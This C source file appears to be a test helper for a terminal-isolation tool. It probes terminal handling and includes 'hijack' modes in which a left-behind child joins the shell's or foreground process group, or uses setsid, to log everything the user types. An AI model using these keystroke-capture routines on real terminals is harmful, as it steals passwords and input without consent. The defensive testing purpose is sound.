/* ttyprobe MODE [ARGS]: what a tool does with its terminal, and what a
 * process left behind does with the user's (issue 12). One mode per run.
 *
 * What tools do (run on a terminal through moat):
 *   name              print "name: 0=TTY 1=TTY 2=TTY" (ttyname, or "-")
 *   devtty            open /dev/tty: "devtty: ok TTY" or "devtty: <strerror>"
 *   winch             print "size ROWS COLS", then "winch ROWS COLS" on every
 *                     SIGWINCH, until a line "q" (or EOF) on stdin
 *   raw               raw mode on fd 0 (as an editor): "raw: ready", then
 *                     "key XX" (hex) for every byte read, without Enter; ^Z
 *                     suspends as vim does (restore the terminal, SIGTSTP to
 *                     the group, raw again on SIGCONT: "raw: resumed"); "q"
 *                     restores the terminal and exits 0
 *   raw-die           raw mode, then SIGKILL itself (the terminal stays raw)
 *   password          a sudo-style prompt on /dev/tty: "Password: ", echo off,
 *                     read a line, echo back on; prints "password: REVERSED"
 *                     (so the typed text itself never shows) and, when stdin is
 *                     not a terminal, "stdin: LINE" from stdin
 *   sigint            "sigint: waiting" until SIGINT: "sigint: caught", exit 0
 *   ticks             "tick N" every 100 ms (up to 300); a "q" on stdin exits 3
 *   readline          "readline: ready", read a line from stdin: "readline: got LINE"
 * What an attacker leaves behind (the parent says "hijack: left PID behind"
 * and returns at once; the child
 * appends every byte it reads from the terminal to FILE for SECONDS, and
 * what it did or could not do to FILE.log):
 *   hijack-session FILE SECONDS   setpgid(0, getsid(0)): join the group of the
 *                                 session leader (the user's shell)
 *   hijack-follow FILE SECONDS    join whatever group tcgetpgrp() says is in the
 *                                 foreground, again whenever it changes
 *   hijack-setsid FILE SECONDS    setsid(): its terminal is then no longer its
 *                                 controlling terminal, so no job control
 *                                 applies to reading it through the
 *                                 descriptors it inherited
 *   hijack-path FILE SECONDS      setsid(), then open its own terminal by path
 *                                 (found before, from fd 0-2 or /proc/self/stat)
 * Modes exit 0 on success, 1 on failure (message on stderr), 2 for usage. */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t winched, interrupted, continued;
static struct termios saved;

static void on_winch(int sig)
{
	(void)sig;
	winched = 1;
}

static void on_int(int sig)
{
	(void)sig;
	interrupted = 1;
}

static void on_cont(int sig)
{
	(void)sig;
	continued = 1;
}

static void on_alarm(int sig)
{
	(void)sig;
	tcsetattr(0, TCSANOW, &saved);
	_exit(3);
}

static long now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static const char *tty_or_dash(int fd)
{
	const char *n = ttyname(fd);
	return n ? n : "-";
}

static int name(void)
{
	printf("name: 0=%s", tty_or_dash(0));
	printf(" 1=%s", tty_or_dash(1));
	printf(" 2=%s\n", tty_or_dash(2));
	return 0;
}

static int devtty(void)
{
	int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (fd < 0) {
		printf("devtty: %s\n", strerror(errno));
		return 1;
	}
	printf("devtty: ok %s\n", tty_or_dash(fd));
	return 0;
}

static void print_size(const char *what)
{
	struct winsize ws = {0};
	ioctl(0, TIOCGWINSZ, &ws);
	printf("%s %d %d\n", what, ws.ws_row, ws.ws_col);
}

static int winch(void)
{
	struct sigaction sa = {.sa_handler = on_winch};
	sigaction(SIGWINCH, &sa, NULL);
	alarm(30);
	print_size("size");
	char line[64];
	for (;;) {
		struct pollfd p = {.fd = 0, .events = POLLIN};
		int r = poll(&p, 1, 50);
		if (winched) {
			winched = 0;
			print_size("winch");
		}
		if (r > 0) {
			if (!fgets(line, sizeof(line), stdin) || line[0] == 'q')
				return 0;
		}
	}
}

static void make_raw(void)
{
	struct termios t = saved;
	cfmakeraw(&t);
	tcsetattr(0, TCSANOW, &t);
}

static int raw(int die)
{
	if (tcgetattr(0, &saved) < 0) {
		fprintf(stderr, "raw: tcgetattr: %s\n", strerror(errno));
		return 1;
	}
	signal(SIGALRM, on_alarm);
	struct sigaction sa = {.sa_handler = on_cont};
	sigaction(SIGCONT, &sa, NULL);
	alarm(30);
	make_raw();
	printf("%s: ready\r\n", die ? "raw-die" : "raw");
	if (die)
		kill(getpid(), SIGKILL);
	for (;;) {
		unsigned char c;
		ssize_t n = read(0, &c, 1);
		if (continued) {
			continued = 0;
			make_raw();
			printf("raw: resumed\r\n");
		}
		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0)
			break;
		printf("key %02x\r\n", c);
		if (c == 'q')
			break;
		if (c == 0x1a) {
			tcsetattr(0, TCSANOW, &saved);
			printf("raw: suspending\n");
			kill(0, SIGTSTP);
			/* Running again: the shell's fg sent SIGCONT. */
			continued = 0;
			make_raw();
			printf("raw: resumed\r\n");
		}
	}
	tcsetattr(0, TCSANOW, &saved);
	return 0;
}

static int password(void)
{
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		fprintf(stderr, "password: /dev/tty: %s\n", strerror(errno));
		return 1;
	}
	struct termios old, quiet;
	if (tcgetattr(fd, &old) < 0) {
		fprintf(stderr, "password: tcgetattr: %s\n", strerror(errno));
		return 1;
	}
	quiet = old;
	quiet.c_lflag &= ~(tcflag_t)(ECHO | ECHOE | ECHOK | ECHONL);
	tcsetattr(fd, TCSANOW, &quiet);
	dprintf(fd, "Password: ");
	char pw[256];
	ssize_t n = 0;
	for (;;) { /* canonical mode: one read per line */
		n = read(fd, pw, sizeof(pw) - 1);
		if (n < 0 && errno == EINTR)
			continue;
		break;
	}
	tcsetattr(fd, TCSANOW, &old);
	dprintf(fd, "\n");
	if (n <= 0) {
		fprintf(stderr, "password: read: %s\n", n < 0 ? strerror(errno) : "end of file");
		return 1;
	}
	pw[n] = '\0';
	pw[strcspn(pw, "\r\n")] = '\0';
	size_t len = strlen(pw);
	for (size_t i = 0; i < len / 2; i++) {
		char c = pw[i];
		pw[i] = pw[len - 1 - i];
		pw[len - 1 - i] = c;
	}
	printf("password: %s\n", pw);
	if (!isatty(0)) {
		char line[256];
		if (fgets(line, sizeof(line), stdin)) {
			line[strcspn(line, "\n")] = '\0';
			printf("stdin: %s\n", line);
		}
	}
	return 0;
}

static int sigint(void)
{
	struct sigaction sa = {.sa_handler = on_int};
	sigaction(SIGINT, &sa, NULL);
	alarm(30);
	printf("sigint: waiting\n");
	while (!interrupted)
		pause();
	printf("sigint: caught\n");
	return 0;
}

static int ticks(void)
{
	for (int i = 1; i <= 300; i++) {
		printf("tick %d\n", i);
		struct pollfd p = {.fd = 0, .events = POLLIN};
		if (poll(&p, 1, 100) > 0) {
			char c;
			if (read(0, &c, 1) == 1 && c == 'q')
				return 3;
		}
	}
	return 0;
}

static int readline(void)
{
	char line[256];
	printf("readline: ready\n");
	if (!fgets(line, sizeof(line), stdin)) {
		fprintf(stderr, "readline: %s\n", ferror(stdin) ? strerror(errno) : "end of file");
		return 1;
	}
	line[strcspn(line, "\r\n")] = '\0';
	printf("readline: got %s\n", line);
	return 0;
}

/* --- the attacker -------------------------------------------------------- */

static const char *steal_file;

/* "WHAT A[: strerror(E)]" as a line of FILE.log. */
static void note(const char *what, long a, int e)
{
	char path[4096];
	snprintf(path, sizeof(path), "%s.log", steal_file);
	FILE *f = fopen(path, "a");
	if (!f)
		return;
	fprintf(f, "%s %ld", what, a);
	if (e)
		fprintf(f, ": %s", strerror(e));
	fputc('\n', f);
	fclose(f);
}

static void keep(const char *buf, ssize_t n)
{
	FILE *f = fopen(steal_file, "a");
	if (f) {
		fwrite(buf, 1, (size_t)n, f);
		fclose(f);
	}
}

/* The path of this process's terminal: from a descriptor, else from the
 * device number of its controlling terminal (/proc/self/stat, field 7). */
static int own_tty_path(char *buf, size_t len)
{
	for (int fd = 0; fd < 3; fd++) {
		if (ttyname_r(fd, buf, len) == 0)
			return 0;
	}
	char stat[1024] = {0};
	FILE *f = fopen("/proc/self/stat", "r");
	if (!f)
		return -1;
	size_t n = fread(stat, 1, sizeof(stat) - 1, f);
	fclose(f);
	stat[n] = '\0';
	char *end = strrchr(stat, ')'); /* after "pid (comm" */
	int ppid, pgrp, session, tty_nr;
	char state;
	if (!end ||
	    sscanf(end + 1, " %c %d %d %d %d", &state, &ppid, &pgrp, &session, &tty_nr) != 5)
		return -1;
	int major = (tty_nr >> 8) & 0xfff, minor = (tty_nr & 0xff) | ((tty_nr >> 12) & 0xfff00);
	if (major < 136 || major > 143) /* Unix98 pty slaves */
		return -1;
	snprintf(buf, len, "/dev/pts/%d", (major - 136) * 256 + minor);
	return 0;
}

/* Reads on a terminal that is not the reader's controlling terminal are not
 * subject to job control: a process in a session of its own reads the
 * user's terminal alongside the shell, through a descriptor it inherited or
 * by opening the terminal's path (its own terminal only: never another's). */
_Noreturn static void steal_alone(int by_path, int seconds)
{
	signal(SIGHUP, SIG_IGN);
	char path[64];
	int have_path = own_tty_path(path, sizeof(path)) == 0;
	if (setsid() < 0)
		note("setsid refused, pid", getpid(), errno);
	struct pollfd p[3];
	int n = 0;
	if (by_path && have_path) {
		int fd = open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);
		if (fd < 0) {
			note("open of its terminal by path refused, fd", fd, errno);
		} else {
			note("opened its terminal by path, fd", fd, 0);
			p[n++] = (struct pollfd){.fd = fd, .events = POLLIN};
		}
	} else if (by_path) {
		note("no terminal to name, fd", -1, 0);
	}
	for (int fd = 0; !by_path && fd < 3; fd++) {
		if (isatty(fd))
			p[n++] = (struct pollfd){.fd = fd, .events = POLLIN};
	}
	long deadline = now_ms() + seconds * 1000L;
	while (n > 0 && now_ms() < deadline) {
		if (poll(p, (nfds_t)n, 20) <= 0)
			continue;
		for (int i = 0; i < n; i++) {
			if (p[i].revents & POLLIN) {
				char buf[256];
				ssize_t r = read(p[i].fd, buf, sizeof(buf));
				if (r > 0)
					keep(buf, r);
			}
		}
	}
	_exit(0);
}

_Noreturn static void steal(int follow, int seconds)
{
	signal(SIGHUP, SIG_IGN);
	signal(SIGTTIN, SIG_IGN);
	signal(SIGTTOU, SIG_IGN);
	int fd = isatty(0) ? 0 : open("/dev/tty", O_RDWR);
	if (fd < 0) {
		note("open /dev/tty, fd", 0, errno);
		_exit(1);
	}
	if (!follow) {
		pid_t sid = getsid(0);
		if (setpgid(0, sid) < 0) {
			note("setpgid(0, pgid) refused, pgid", sid, errno);
			_exit(1);
		}
		note("joined the session leader's group", sid, 0);
	}
	long deadline = now_ms() + seconds * 1000L;
	pid_t refused = 0;
	int read_error = 0;
	while (now_ms() < deadline) {
		if (follow) {
			pid_t fg = tcgetpgrp(fd);
			if (fg > 0 && fg != getpgrp() && fg != refused) {
				if (setpgid(0, fg) < 0) {
					note("setpgid(0, pgid) refused, pgid", fg, errno);
					refused = fg;
				} else {
					note("joined the foreground group", fg, 0);
				}
			}
		}
		struct pollfd p = {.fd = fd, .events = POLLIN};
		if (poll(&p, 1, 20) <= 0)
			continue;
		if (p.revents & (POLLHUP | POLLERR | POLLNVAL)) {
			struct timespec ts = {0, 20 * 1000 * 1000};
			nanosleep(&ts, NULL);
		}
		if (!(p.revents & POLLIN))
			continue;
		char buf[256];
		ssize_t n = read(fd, buf, sizeof(buf));
		if (n > 0) {
			keep(buf, n);
		} else {
			if (n < 0 && errno != read_error) {
				read_error = errno;
				note("read failed in group", getpgrp(), errno);
			}
			struct timespec ts = {0, 20 * 1000 * 1000};
			nanosleep(&ts, NULL);
		}
	}
	_exit(0);
}

/* how: 0 session, 1 follow, 2 setsid, 3 path */
static int hijack(int follow, const char *file, const char *seconds)
{
	steal_file = file;
	pid_t pid = fork();
	if (pid < 0) {
		fprintf(stderr, "hijack: fork: %s\n", strerror(errno));
		return 1;
	}
	if (pid == 0 && follow >= 2)
		steal_alone(follow == 3, atoi(seconds));
	if (pid == 0)
		steal(follow, atoi(seconds));
	printf("hijack: left %d behind\n", (int)pid);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: ttyprobe MODE [ARGS]\n");
		return 2;
	}
	const char *mode = argv[1];
	setvbuf(stdout, NULL, _IONBF, 0);
	if (strcmp(mode, "name") == 0)
		return name();
	if (strcmp(mode, "devtty") == 0)
		return devtty();
	if (strcmp(mode, "winch") == 0)
		return winch();
	if (strcmp(mode, "raw") == 0)
		return raw(0);
	if (strcmp(mode, "raw-die") == 0)
		return raw(1);
	if (strcmp(mode, "password") == 0)
		return password();
	if (strcmp(mode, "sigint") == 0)
		return sigint();
	if (strcmp(mode, "ticks") == 0)
		return ticks();
	if (strcmp(mode, "readline") == 0)
		return readline();
	if (strcmp(mode, "hijack-session") == 0 && argc > 3)
		return hijack(0, argv[2], argv[3]);
	if (strcmp(mode, "hijack-follow") == 0 && argc > 3)
		return hijack(1, argv[2], argv[3]);
	if (strcmp(mode, "hijack-setsid") == 0 && argc > 3)
		return hijack(2, argv[2], argv[3]);
	if (strcmp(mode, "hijack-path") == 0 && argc > 3)
		return hijack(3, argv[2], argv[3]);
	fprintf(stderr, "ttyprobe: unknown mode or missing argument '%s'\n", mode);
	return 2;
}
